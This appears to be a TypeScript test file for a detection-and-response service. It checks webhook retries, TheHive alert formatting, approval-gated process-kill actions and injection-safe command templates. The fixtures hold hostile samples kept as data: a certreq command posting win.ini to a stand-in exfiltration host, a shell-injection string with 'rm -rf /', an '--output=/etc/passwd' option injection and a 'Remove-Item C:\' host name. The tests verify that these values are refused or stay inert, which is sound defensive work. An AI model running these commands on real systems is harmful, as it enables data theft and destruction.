import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SqliteStore, type EventRecord } from '../../src/store/index.js';
import { ActionRunner, parseWorkflows, planActions, type Workflow } from '../../src/respond/index.js';
import { ConfigError } from '../../src/configError.js';
import { receiver } from '../server/support/http.js';
import { needs } from '../helpers/requirements.js';

const NODE = process.execPath;

/** An ECS alert document as toEcsAlert writes it (the fields the workflows read). */
function ecsDoc(over: { host?: string; pid?: number; commandLine?: string; severity?: string } = {}): Record<string, unknown> {
  return {
    '@timestamp': '2024-05-01T10:15:30.123Z',
    event: { kind: 'alert', id: 'alert-0001' },
    rule: { id: 'certreq-download-upload', name: 'Suspicious Certreq Command to Download or Upload' },
    host: { name: over.host ?? 'WS01.corp.example' },
    user: { name: 'alice', domain: 'CORP' },
    process: {
      pid: over.pid ?? 4242,
      name: 'certreq.exe',
      executable: 'C:\\Windows\\System32\\certreq.exe',
      command_line: over.commandLine ?? 'certreq -Post -config https://exfil.example.invalid/upload C:\\Windows\\win.ini out.txt',
      hash: { sha256: 'ab'.repeat(32) },
    },
    winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', provider_name: 'Microsoft-Windows-Sysmon', event_id: 1, record_id: 4242 },
    tags: ['attack.defense-evasion', 'attack.t1027'],
    procwatch: { severity: over.severity ?? 'high', reason: 'POST of C:\\Windows\\win.ini to https://exfil.example.invalid/upload', certreq: { url: 'https://exfil.example.invalid/upload' } },
  };
}

const FACTS = { id: 'alert-0001', ruleId: 'certreq-download-upload', severity: 'high' as const, suppressed: false };

/** A stored process event as the service keeps it (the WinEvent JSON), for target verification. */
function processEvent(over: { host?: string; pid?: number; image?: string; time?: string; eventId?: 1 | 5; record?: number } = {}): EventRecord {
  const time = over.time ?? '2024-05-01T10:15:30.123Z';
  const host = over.host ?? 'WS01.corp.example';
  const doc = {
    system: { provider: 'Microsoft-Windows-Sysmon', eventId: over.eventId ?? 1, timeCreated: time, recordId: over.record ?? 4242, channel: 'Microsoft-Windows-Sysmon/Operational', computer: host },
    data: { ProcessId: over.pid ?? 4242, Image: over.image ?? 'C:\\Windows\\System32\\certreq.exe' },
    origin: { file: 'test' },
  };
  return { key: `ev-${over.record ?? 4242}-${over.eventId ?? 1}-${time}`, time, host, doc: JSON.stringify(doc) };
}

/** A store holding the alerting process's start event (as procwatch would have stored it) and the planned actions. */
async function plannedStore(workflows: Workflow[], doc = ecsDoc(), events: EventRecord[] = [processEvent()]): Promise<{ store: SqliteStore; ids: string[] }> {
  const store = new SqliteStore({ path: ':memory:' });
  const actions = planActions(FACTS, doc, workflows);
  const r = await store.ingest(events, () => ({ alerts: [], actions }));
  return { store, ids: r.actionsCreated };
}

test('webhook: a receiver failing twice then succeeding gets exactly one delivery recorded as succeeded', async () => {
  const rx = await receiver((n, _r, res) => {
    res.statusCode = n <= 2 ? 503 : 201;
    res.end(n <= 2 ? 'try later' : '{"ok":true}');
  });
  try {
    const workflows = parseWorkflows({
      workflows: [{ name: 'soar', type: 'webhook', url: `${rx.url}/hook`, secret: 's3cret', retries: 3, backoff_ms: 20, timeout_ms: 2000 }],
    });
    const { store, ids } = await plannedStore(workflows);
    const runner = new ActionRunner({ store, workflows, pollMs: 10 });
    await runner.start();
    const id = ids[0]!;
    const end = Date.now() + 5000;
    while ((await store.getAction(id))?.status !== 'succeeded' && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
    await runner.stop();
    const a = (await store.getAction(id))!;
    assert.equal(a.status, 'succeeded');
    assert.equal(a.attempts, 3);
    assert.equal(rx.received.length, 3, 'two failures and one success reached the receiver');
    // Every attempt carries the same delivery id and a valid HMAC of the exact body.
    for (const r of rx.received) {
      assert.equal(r.headers['x-procwatch-delivery'], id);
      assert.equal(r.headers['x-procwatch-signature-256'], `sha256=${createHmac('sha256', 's3cret').update(r.body).digest('hex')}`);
      const body = JSON.parse(r.body) as { alert_id: string; alert: { event: { id: string } } };
      assert.equal(body.alert_id, 'alert-0001');
    }
    const audit = (await store.listAudit({ targetId: id, limit: 10, offset: 0 })).items.map((e) => e.action).reverse();
    assert.deepEqual(audit, ['action.attempt_failed', 'action.attempt_failed', 'action.succeeded']);
    const succeeded = (await store.listActions({ status: 'succeeded', limit: 10, offset: 0 })).total;
    assert.equal(succeeded, 1);
  } finally {
    await rx.close();
  }
});

test('webhook: exponential backoff, then a dead-letter record after the last try', async () => {
  const rx = await receiver((_n, _r, res) => {
    res.statusCode = 500;
    res.end('down');
  });
  try {
    const workflows = parseWorkflows([{ name: 'down', type: 'webhook', url: rx.url, retries: 2, backoff_ms: 40 }]);
    const { store, ids } = await plannedStore(workflows);
    const runner = new ActionRunner({ store, workflows, pollMs: 5 });
    await runner.start();
    const end = Date.now() + 5000;
    while ((await store.getAction(ids[0]!))?.status !== 'dead_letter' && Date.now() < end) await new Promise((r) => setTimeout(r, 5));
    await runner.stop();
    const a = (await store.getAction(ids[0]!))!;
    assert.equal(a.status, 'dead_letter');
    assert.equal(a.attempts, 3);
    assert.match(a.lastError ?? '', /HTTP 500/);
    const audit = (await store.listAudit({ targetId: ids[0]!, limit: 10, offset: 0 })).items.reverse();
    assert.deepEqual(audit.map((e) => e.detail.retry_in_ms ?? null), [40, 80, null], 'delay doubles per try');
    assert.equal(audit.at(-1)!.action, 'action.dead_letter');
    assert.equal(rx.received.length, 3);
  } finally {
    await rx.close();
  }
});

test('webhook: a receiver that never answers fails the attempt at the timeout', async () => {
  const rx = await receiver(() => {
    /* never answers */
  });
  try {
    const workflows = parseWorkflows([{ name: 'slow', type: 'webhook', url: rx.url, retries: 0, timeout_ms: 150 }]);
    const { store, ids } = await plannedStore(workflows);
    const runner = new ActionRunner({ store, workflows, pollMs: 5 });
    const t0 = Date.now();
    await runner.start();
    const end = Date.now() + 5000;
    while ((await store.getAction(ids[0]!))?.status !== 'dead_letter' && Date.now() < end) await new Promise((r) => setTimeout(r, 5));
    await runner.stop();
    assert.match((await store.getAction(ids[0]!))!.lastError ?? '', /timed out after 150 ms/);
    assert.ok(Date.now() - t0 < 3000);
  } finally {
    await rx.close();
  }
});

test('TheHive 5 format: our alert id as sourceRef, severity mapped, observables, command line fenced', async () => {
  const nasty = 'certreq -Post ```\n# injected heading\n``` -config http://x/ win.ini';
  const workflows = parseWorkflows([{ name: 'hive', type: 'webhook', url: 'http://127.0.0.1:9/api/v1/alert', format: 'thehive5' }]);
  const [a] = planActions({ ...FACTS, severity: 'critical' }, ecsDoc({ commandLine: nasty, severity: 'critical' }), workflows);
  const body = JSON.parse((a!.request.webhook as { body: string }).body) as Record<string, unknown>;
  assert.equal(body.sourceRef, 'alert-0001');
  assert.equal(body.source, 'procwatch');
  assert.equal(body.severity, 4);
  assert.equal(body.date, Date.parse('2024-05-01T10:15:30.123Z'));
  assert.equal(body.title, 'Suspicious Certreq Command to Download or Upload on WS01.corp.example');
  assert.ok((body.tags as string[]).includes('host:WS01.corp.example'));
  const obs = body.observables as { dataType: string; data: string; ioc?: boolean }[];
  assert.deepEqual(obs.map((o) => o.dataType), ['hostname', 'url', 'other', 'hash']);
  assert.equal(obs[1]!.ioc, true);
  assert.equal(obs[2]!.data, nasty);
  // The description's fence is longer than any backtick run in the command line, so it cannot be closed early.
  const desc = body.description as string;
  assert.ok(desc.includes('````\n' + nasty + '\n````'), desc);
});

test('command: argv template without a shell, alert JSON on stdin, hostile values stay data', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'pw-cmd-'));
  try {
    const out = join(dir, 'out.json');
    const pwned = join(dir, 'pwned');
    const script = `let s='';process.stdin.on('data',d=>s+=d).on('end',()=>{require('fs').writeFileSync(process.argv[1],JSON.stringify({argv:process.argv.slice(2),stdin:JSON.parse(s),env:process.env.PW_HOST}));console.log('done')})`;
    const workflows = parseWorkflows([
      { name: 'notify', type: 'command', argv: [NODE, '-e', script, out, 'host={host.name}', '{process.command_line}'], env: { PW_HOST: '{host.name}' } },
    ]);
    const hostile = `x"; touch ${pwned}; echo "$(touch ${pwned})\` | rm -rf /`;
    const { store, ids } = await plannedStore(workflows, ecsDoc({ commandLine: hostile }));
    const runner = new ActionRunner({ store, workflows, pollMs: 5 });
    await runner.start();
    const end = Date.now() + 10_000;
    while (!['succeeded', 'dead_letter'].includes((await store.getAction(ids[0]!))?.status ?? '') && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
    await runner.stop();
    const a = (await store.getAction(ids[0]!))!;
    assert.equal(a.status, 'succeeded', a.lastError ?? '');
    assert.equal((a.result as { stdout: string }).stdout.trim(), 'done');
    const got = JSON.parse(readFileSync(out, 'utf8')) as { argv: string[]; stdin: Record<string, unknown>; env: string };
    assert.deepEqual(got.argv, ['host=WS01.corp.example', hostile]);
    assert.equal((got.stdin.event as { id: string }).id, 'alert-0001');
    assert.equal(got.env, 'WS01.corp.example');
    assert.equal(existsSync(pwned), false, 'no shell interpreted the command line');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('command: timeout kills, output cap kills, non-zero exit fails', async () => {
  const workflows = parseWorkflows([
    { name: 'hang', type: 'command', argv: [NODE, '-e', 'setTimeout(()=>{}, 60000)'], timeout_ms: 200 },
    { name: 'flood', type: 'command', argv: [NODE, '-e', "process.stdout.write('x'.repeat(100000))"], max_output_bytes: 1000 },
    { name: 'exit3', type: 'command', argv: [NODE, '-e', 'process.exit(3)'] },
  ]);
  const { store, ids } = await plannedStore(workflows);
  const runner = new ActionRunner({ store, workflows, pollMs: 5 });
  await runner.start();
  const end = Date.now() + 10_000;
  const done = async (): Promise<boolean> => (await Promise.all(ids.map((i) => store.getAction(i)))).every((a) => a?.status === 'dead_letter');
  while (!(await done()) && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
  await runner.stop();
  const errors = Object.fromEntries(await Promise.all(ids.map(async (i) => { const a = (await store.getAction(i))!; return [a.workflow, a.lastError]; })));
  assert.match(errors.hang ?? '', /timed out after 200 ms/);
  assert.match(errors.flood ?? '', /output exceeded 1000 bytes/);
  assert.match(errors.exit3 ?? '', /exited with code 3/);
});

test('argv placeholder whose value starts with "-" is refused as option injection', async () => {
  const workflows = parseWorkflows([{ name: 'n', type: 'command', argv: ['/bin/echo', '{host.name}'] }]);
  const [a] = planActions(FACTS, ecsDoc({ host: '--output=/etc/passwd' }), workflows);
  assert.match(String(a!.request.refused), /option injection/);
  const { store, ids } = await plannedStore(workflows, ecsDoc({ host: '--output=/etc/passwd' }));
  const runner = new ActionRunner({ store, workflows, pollMs: 5 });
  await runner.start();
  await runner.idle();
  await runner.stop();
  assert.equal((await store.getAction(ids[0]!))?.status, 'failed');
  assert.equal((await store.listAudit({ targetId: ids[0]!, limit: 5, offset: 0 })).items[0]?.action, 'action.refused');
});

test('stop_process: dry-run by default — records the remediation, runs nothing', async () => {
  const workflows = parseWorkflows([{ name: 'kill', type: 'stop_process', rules: ['certreq-download-upload'], min_severity: 'high' }]);
  assert.equal(workflows[0]!.dryRun, true);
  const { store, ids } = await plannedStore(workflows);
  const runner = new ActionRunner({ store, workflows, pollMs: 5 });
  await runner.start();
  await runner.idle();
  await runner.stop();
  const a = (await store.getAction(ids[0]!))!;
  assert.equal(a.status, 'dry_run');
  assert.equal(a.attempts, 0);
  const wouldRun = (a.result as { would_run: { target: unknown; command: { argv: string[]; env: Record<string, string> } } }).would_run;
  assert.deepEqual(wouldRun.target, { host: 'WS01.corp.example', pid: 4242, name: 'certreq', image: 'C:\\Windows\\System32\\certreq.exe', seenAt: '2024-05-01T10:15:30.123Z' });
  assert.deepEqual(Object.keys(wouldRun).sort(), ['command', 'target'], 'only what runs is recorded, no separate preview');
  assert.equal(wouldRun.command.argv[0], 'pwsh');
  assert.ok(!wouldRun.command.argv.join(' ').includes('WS01'), 'target values are not spliced into the script');
  assert.equal(wouldRun.command.env.PROCWATCH_TARGET_PID, '4242');
  assert.equal((await store.listAudit({ targetId: ids[0]!, limit: 5, offset: 0 })).items[0]?.action, 'action.dry_run');
});

test('stop_process: a destructive action waits for approval, then runs through a real command', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'pw-stop-'));
  try {
    const out = join(dir, 'stopped.txt');
    const workflows = parseWorkflows([
      {
        name: 'kill',
        type: 'stop_process',
        via: 'command',
        dry_run: false,
        argv: [NODE, '-e', `require('fs').writeFileSync(${JSON.stringify(out)}, process.env.PROCWATCH_TARGET_HOST + ' ' + process.env.PROCWATCH_TARGET_PID + ' ' + process.argv[1])`, '{process.pid}'],
      },
    ]);
    const { store, ids } = await plannedStore(workflows);
    const id = ids[0]!;
    assert.equal((await store.getAction(id))?.status, 'pending_approval');
    const runner = new ActionRunner({ store, workflows, pollMs: 5 });
    await runner.start();
    await new Promise((r) => setTimeout(r, 50));
    assert.equal((await store.getAction(id))?.status, 'pending_approval', 'nothing runs before approval');
    assert.equal(existsSync(out), false);
    await runner.approve(id, 'erin', 'confirmed exfiltration');
    await assert.rejects(runner.approve(id, 'erin'), /not awaiting approval/);
    const end = Date.now() + 10_000;
    while ((await store.getAction(id))?.status !== 'succeeded' && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
    await runner.stop();
    assert.equal((await store.getAction(id))?.status, 'succeeded');
    assert.equal(readFileSync(out, 'utf8'), 'WS01.corp.example 4242 4242');
    const audit = (await store.listAudit({ targetId: id, limit: 10, offset: 0 })).items.reverse();
    assert.deepEqual(audit.map((e) => [e.action, e.actor]), [['action.approved', 'erin'], ['action.succeeded', 'procwatch']]);
    assert.equal(audit[0]!.detail.reason, 'confirmed exfiltration');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('stop_process: a rejected action never runs; a hostile host name is refused', async () => {
  const workflows = parseWorkflows([{ name: 'kill', type: 'stop_process', dry_run: false, approval: 'required' }]);
  const { store, ids } = await plannedStore(workflows);
  const runner = new ActionRunner({ store, workflows, pollMs: 5 });
  await runner.reject(ids[0]!, 'frank', 'admin activity');
  assert.equal((await store.getAction(ids[0]!))?.status, 'rejected');
  const [bad] = planActions(FACTS, ecsDoc({ host: 'WS01; Remove-Item C:\\' }), workflows);
  assert.match(String(bad!.request.refused), /not a plain DNS\/NetBIOS name/);
  assert.equal(bad!.status, 'pending', 'refused actions go straight to the runner to be recorded as failed');
});

test('workflows match by rule and minimum severity; suppressed alerts trigger nothing', () => {
  const workflows = parseWorkflows([
    { name: 'all', type: 'webhook', url: 'http://127.0.0.1:9/' },
    { name: 'critical-only', type: 'webhook', url: 'http://127.0.0.1:9/', min_severity: 'critical' },
    { name: 'other-rule', type: 'webhook', url: 'http://127.0.0.1:9/', rules: ['some-other-rule'] },
  ]);
  assert.deepEqual(planActions(FACTS, ecsDoc(), workflows).map((a) => a.workflow), ['all']);
  assert.deepEqual(planActions({ ...FACTS, severity: 'critical' }, ecsDoc(), workflows).map((a) => a.workflow), ['all', 'critical-only']);
  assert.deepEqual(planActions({ ...FACTS, suppressed: true }, ecsDoc(), workflows), []);
});

test('workflow config errors name the workflow and field', () => {
  assert.throws(() => parseWorkflows([{ name: 'x', type: 'webhook', url: 'ftp://nope' }]), (e: Error) => e instanceof ConfigError && /\(x\)\.url/.test(e.message));
  assert.throws(() => parseWorkflows([{ name: 'x', type: 'command', argv: [] }]), /argv/);
  assert.throws(() => parseWorkflows([{ name: 'x', type: 'mail' }]), /type/);
  assert.throws(() => parseWorkflows([{ name: 'x', type: 'webhook', url: 'http://a/', min_severity: 'urgent' }]), /min_severity/);
  assert.throws(() => parseWorkflows([{ name: 'x', type: 'webhook', url: 'http://a/' }, { name: 'x', type: 'webhook', url: 'http://a/' }]), /duplicate/);
});

test('stop_process via an EDR API: the configured call is made with the host and PID as JSON values (approval: auto)', async () => {
  const rx = await receiver((_n, _r, res) => {
    res.statusCode = 202;
    res.end('{"job":"42"}');
  });
  try {
    const workflows = parseWorkflows([
      {
        name: 'edr-kill',
        type: 'stop_process',
        via: 'webhook',
        dry_run: false,
        approval: 'auto',
        url: `${rx.url}/api/v1/hosts/{host.name}/kill`,
        headers: { authorization: 'Bearer edr-secret' },
        body: { hostname: '{host.name}', pid: '{process.pid}', reason: 'procwatch alert {alert.id}' },
      },
    ]);
    const { store, ids } = await plannedStore(workflows, ecsDoc({ host: 'WS01.corp.example' }));
    assert.equal((await store.getAction(ids[0]!))?.status, 'pending', 'approval: auto needs no approval');
    const runner = new ActionRunner({ store, workflows, pollMs: 5 });
    await runner.start();
    const end = Date.now() + 5000;
    while ((await store.getAction(ids[0]!))?.status !== 'succeeded' && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
    await runner.stop();
    assert.equal((await store.getAction(ids[0]!))?.status, 'succeeded');
    assert.equal(rx.received.length, 1);
    assert.equal(rx.received[0]!.url, '/api/v1/hosts/WS01.corp.example/kill');
    assert.equal(rx.received[0]!.headers.authorization, 'Bearer edr-secret');
    assert.deepEqual(JSON.parse(rx.received[0]!.body), { hostname: 'WS01.corp.example', pid: 4242, reason: 'procwatch alert alert-0001' });
    // The secret header lives in the config, not in the stored action.
    assert.ok(!JSON.stringify(await store.getAction(ids[0]!)).includes('edr-secret'));
  } finally {
    await rx.close();
  }
});

test('TheHive 5 body has the fields of a real POST /api/v1/alert body (shared corpus example)', needs('corpus'), async () => {
  const { CORPUS } = await import('../helpers/paths.js');
  const example = JSON.parse(readFileSync(join(CORPUS, 'formats', 'outputs', 'thehive5_alert_post.json'), 'utf8')) as Record<string, unknown>;
  const workflows = parseWorkflows([{ name: 'hive', type: 'webhook', url: 'http://127.0.0.1:9/api/v1/alert', format: 'thehive5' }]);
  const [a] = planActions(FACTS, ecsDoc(), workflows, { publicUrl: 'https://procwatch.example:8088' });
  const body = JSON.parse((a!.request.webhook as { body: string }).body) as Record<string, unknown>;
  assert.deepEqual(Object.keys(body).sort(), Object.keys(example).sort());
  for (const k of Object.keys(example)) assert.equal(typeof body[k], typeof example[k], k);
  assert.equal(body.externalLink, 'https://procwatch.example:8088/console/#alerts/alert-0001');
  const exampleTypes = (example.observables as { dataType: string }[]).map((o) => o.dataType);
  for (const t of exampleTypes) assert.ok((body.observables as { dataType: string }[]).some((o) => o.dataType === t), t);
});
